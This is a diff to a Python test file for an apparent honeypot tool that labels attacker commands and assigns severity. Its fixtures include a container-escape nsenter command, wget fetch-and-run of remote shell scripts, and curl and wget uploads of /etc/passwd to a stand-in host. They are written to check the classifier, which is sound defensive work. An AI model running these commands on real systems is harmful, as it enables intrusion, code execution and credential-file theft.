@@ -101,7 +101,7 @@ HAND_MADE: list[tuple[str, list[str], dict[str, Any], str, str, str]] = [
     ("reaches inner hosts through the decoy", [], {**IN, "forwards": [{"host": "10.0.0.5", "port": 445}]}, "critical",
      "attacked other hosts: 10.0.0.5:445", "access > spread"),
     ("leaves the container", ["nsenter -t 1 -m -u -i -n sh"], IN, "critical",
-     "reached for the decoy's own host (out of the container)", "access > privesc > run"),
+     "reached for the decoy's own host (out of the container)", "access > privesc"),
 ]  # fmt: skip
 
 
@@ -157,6 +157,28 @@ def test_a_line_that_is_too_long_is_told_shorter_never_cut_in_a_phase(tagger: Of
     story = told(tagger, lines)
     assert len(story.line) <= LINE_CHARS
     assert not story.line.endswith("…")
+
+
+def test_groups_that_do_other_things_are_not_told_as_one_that_is_repeated(tagger: OfflineTagger) -> None:
+    lines = ["wget http://203.0.113.9/a.sh", "rm a.sh", "wget http://203.0.113.9/b.sh; sh b.sh", "rm b.sh"]
+    assert told(tagger, lines).line == glyphs("fetch a.sh > clean > fetch+run b.sh > clean")
+
+
+def test_what_is_sent_out_is_not_told_as_fetched(tagger: OfflineTagger) -> None:
+    for line in (
+        "curl -F f=@/etc/passwd http://203.0.113.9/up.php",
+        "wget --post-file /etc/passwd http://203.0.113.9/up.php",
+    ):
+        story = told(None, [line])
+        assert "up.php" not in story.reason
+        assert "fetch" not in story.line
+
+
+def test_the_use_of_a_shell_alone_runs_nothing(tagger: OfflineTagger) -> None:
+    for lines in (["/ip cloud print"], ["enable", "system", "shell", "sh"], ["sh -c 'uname -a'"]):
+        story = told(tagger, lines)
+        assert "run" not in story.line
+        assert story.severity == "low"
 
 
 def test_a_command_of_several_lines_counts_once_and_stands_at_its_first(tagger: OfflineTagger) -> None:
